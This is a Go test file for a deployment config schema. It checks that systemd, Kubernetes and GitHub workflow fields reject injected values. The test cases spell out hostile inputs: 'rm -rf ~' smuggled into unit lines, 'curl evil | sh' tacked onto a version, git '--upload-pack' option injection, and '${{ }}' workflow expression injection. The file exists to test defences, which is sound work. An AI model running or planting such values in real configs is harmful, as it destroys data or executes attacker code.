package schema

import (
	"errors"
	"path/filepath"
	"strings"
	"testing"
)

// TestDeployFieldsRefused: every deploy field that reaches a rendered
// script, unit, argv or workflow is refused at its position when its
// value would change what runs: a newline in a directory (a new line in
// the unit), "${{" where the workflow would expand it, a ref or URL git
// would read as an option, a version that is no version.
func TestDeployFieldsRefused(t *testing.T) {
	base := strings.NewReplacer("INTERVAL", "30m", "PATTERN", "0 9 * * 1", "SHAPE", "resident", "SVC", "").Replace(deployBase)
	k8s := `secret: "actctl-agents"`
	for _, tc := range []struct {
		old, new, field, why string
	}{
		{"github: {}", `github: {}, systemd: dir: "deploy\nExecStartPre=/bin/rm -rf ~"}
agents: s: {deploy: engines: ["systemd"]`, "deploy.systemd.dir", "control character U+000A"},
		{k8s, k8s + `, dir: "k8s\r"`, "deploy.kubernetes.dir", "control character U+000D"},
		{"github: {}", `github: dir: "wf\u2028"`, "deploy.github.dir", "control character U+2028"},
		{"github: {}", `github: actctl: "v1.0.0; curl evil | sh"`, "deploy.github.actctl", "not a version"},
		{"github: {}", `github: actctl: "${{ github.event.inputs.prompt }}"`, "deploy.github.actctl", "not a version"},
		{"github: {}", `github: runsOn: "${{ github.event.inputs.prompt }}"`, "deploy.github.runsOn", "white space"},
		{"github: {}", `github: runsOn: "x${{inputs.prompt}}"`, "deploy.github.runsOn", `holds "${{"`},
		{k8s, k8s + `, repo: {url: "https://x/y", ref: "--upload-pack=touch /tmp/p"}`, "deploy.kubernetes.repo.ref", "starts with \"-\""},
		{k8s, k8s + `, repo: {url: "https://x/y", ref: "main..dev"}`, "deploy.kubernetes.repo.ref", `".."`},
		{k8s, k8s + `, repo: {url: "https://x/y", ref: "a b"}`, "deploy.kubernetes.repo.ref", "a space"},
		{k8s, k8s + `, repo: {url: "https://x/y", ref: "x.lock"}`, "deploy.kubernetes.repo.ref", ".lock"},
		{k8s, k8s + `, repo: {url: "https://x/y", ref: "-"}`, "deploy.kubernetes.repo.ref", "starts with \"-\""},
		{k8s, k8s + `, repo: {url: "--upload-pack=sh", ref: "main"}`, "deploy.kubernetes.repo.url", "starts with \"-\""},
		{k8s, k8s + `, repo: {url: "https://x/y\nz", ref: "main"}`, "deploy.kubernetes.repo.url", "control character"},
		{`image: "ghcr.io/acme/agents@sha256:0123"`, `image: "ghcr.io/acme/agents x"`, "deploy.kubernetes.image", "white space"},
		{k8s, k8s + `, storage: size: "5Gi\nfoo"`, "deploy.kubernetes.storage.size", "not a Kubernetes quantity"},
		{k8s, k8s + `, storage: class: "-x"`, "deploy.kubernetes.storage.class", "starts with \"-\""},
		{k8s, k8s + `, networkPolicy: cidrs: ["10.0.0.0/8", "10.1.2.3/8"]`, "deploy.kubernetes.networkPolicy.cidrs[1]", "host bits set: the block is 10.0.0.0/8"},
		{k8s, k8s + `, networkPolicy: cidrs: ["example.com"]`, "deploy.kubernetes.networkPolicy.cidrs[0]", "not an address block"},
		{k8s, k8s + `, runtimeClassName: "g visor"`, "deploy.kubernetes.runtimeClassName", "want a string matching"},
		{k8s, k8s + `, install: path: "../actctl"`, "deploy.kubernetes.install.path", "not a directory inside the repository"},
		{"github: {}", `github: install: path: "cmd/$(x)"`, "deploy.github.install.path", "a $"},
		{"github: {}", `github: install: version: "main; rm -rf ~"`, "deploy.github.install.version", "not a version"},
		{"github: {}", `github: install: {url: "https://x/a b", sha256: "` + strings.Repeat("0", 64) + `"}`, "deploy.github.install.url", "white space"},
		{"templates: svc:", "backends: \"claude-code\": install: \"npm i ${{ github.event.inputs.prompt }}\"\ntemplates: svc:", `backends."claude-code".install`, `holds "${{"`},
		// Held to their patterns by the schema itself.
		{`namespace: "agents"`, `namespace: "agents\n- x"`, "deploy.kubernetes.namespace", "want a string matching"},
		{k8s, `secret: "s; rm -rf ~"`, "deploy.kubernetes.secret", "want a string matching"},
		{k8s, k8s + `, name: "-x"`, "deploy.kubernetes.name", "want a string matching"},
		{"github: {}", `github: {}, secretKeys: ["A; B"]`, "deploy.secretKeys[0]", "want a string matching"},
		{"github: {}", `github: {}, systemd: scope: "user\nExecStartPre=/bin/false"`, "deploy.systemd.scope", "is not one of"},
		{"agents: e:", `agents: "e\nExecStartPre=x": template: "emp"` + "\nagents: e:", `agents."e\nExecStartPre=x"`, "invalid name"},
	} {
		src := strings.Replace(base, tc.old, tc.new, 1)
		if src == base {
			t.Fatalf("%s: %q not in the config", tc.field, tc.old)
		}
		_, err := LoadDir(writeWorkspace(t, map[string]string{"actant.cue": src}), filepath.Join(t.TempDir(), "home"))
		var ds Diagnostics
		if !errors.As(err, &ds) {
			t.Errorf("%s: err = %v, want diagnostics", tc.field, err)
			continue
		}
		got := ds.Errors()
		if len(got) != 1 || !strings.Contains(got[0].String(), "actant.cue:") || !strings.Contains(got[0].String(), " "+tc.field+": ") || !strings.Contains(got[0].String(), tc.why) {
			t.Errorf("%s: got %v, want one error at it saying %q", tc.field, got, tc.why)
		}
	}
}

// TestDeployFieldsAccepted: the shapes the rules are for pass.
func TestDeployFieldsAccepted(t *testing.T) {
	for _, ref := range []string{"main", "release/v1.2", "feature-x_y", "v1.0.0"} {
		if why := CheckRefName(ref); why != "" {
			t.Errorf("ref %q: %s", ref, why)
		}
	}
	for _, v := range []string{"latest", "v0.9.0", "v1.2.3-rc.1", "v0.0.0-20260101000000-abcdefabcdef"} {
		if why := CheckModuleVersion(v); why != "" {
			t.Errorf("version %q: %s", v, why)
		}
	}
	for _, q := range []string{"5Gi", "500m", "1.5", "100M"} {
		if why := checkQuantity(q); why != "" {
			t.Errorf("quantity %q: %s", q, why)
		}
	}
}

// TestDeployResources: the workspace's resources have defaults, an
// employee's override the fields it gives for its Jobs; resources on a
// resident agent, a request above its limit and a quantity of another
// shape are refused at their fields.
func TestDeployResources(t *testing.T) {
	base := strings.NewReplacer("INTERVAL", "30m", "PATTERN", "0 9 * * 1", "SVC", "").Replace(deployBase)
	load := func(shape, extra string) (*Config, error) {
		src := strings.Replace(base, "SHAPE", shape, 1) + extra
		return LoadDir(writeWorkspace(t, map[string]string{"actant.cue": src}), filepath.Join(t.TempDir(), "home"))
	}
	cfg, err := load("cron", `agents: e: deploy: kubernetes: resources: {limits: memory: "4Gi", requests: cpu: "1"}`+"\n")
	if err != nil {
		t.Fatal(err)
	}
	k := cfg.Deploy.Kubernetes
	if want := (Resources{Requests: ResourceList{CPU: "250m", Memory: "512Mi"}, Limits: ResourceList{CPU: "2", Memory: "2Gi"}}); k.Resources != want {
		t.Errorf("defaults %+v, want %+v", k.Resources, want)
	}
	if got, want := k.ResourcesFor(cfg.Agents["e"]), (Resources{Requests: ResourceList{CPU: "1", Memory: "512Mi"}, Limits: ResourceList{CPU: "2", Memory: "4Gi"}}); got != want {
		t.Errorf("employee's %+v, want %+v", got, want)
	}
	for _, tc := range []struct{ shape, extra, want string }{
		{"resident", `agents: e: deploy: kubernetes: resources: limits: memory: "4Gi"`, `agents.e.deploy.kubernetes.resources: agent "e" runs in the workspace's pod (shape resident)`},
		{"cron", `agents: e: deploy: kubernetes: resources: requests: memory: "3Gi"`, `agents.e.deploy.kubernetes.resources: the memory request 3Gi is above its limit 2Gi`},
		{"cron", `deploy: kubernetes: resources: limits: cpu: "100m"`, `deploy.kubernetes.resources: the cpu request 250m is above its limit 100m`},
		{"cron", `deploy: kubernetes: resources: limits: cpu: "2 cores"`, `deploy.kubernetes.resources.limits.cpu`},
	} {
		_, err := load(tc.shape, tc.extra+"\n")
		if err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: %v, want %s", tc.extra, err, tc.want)
		}
	}
}
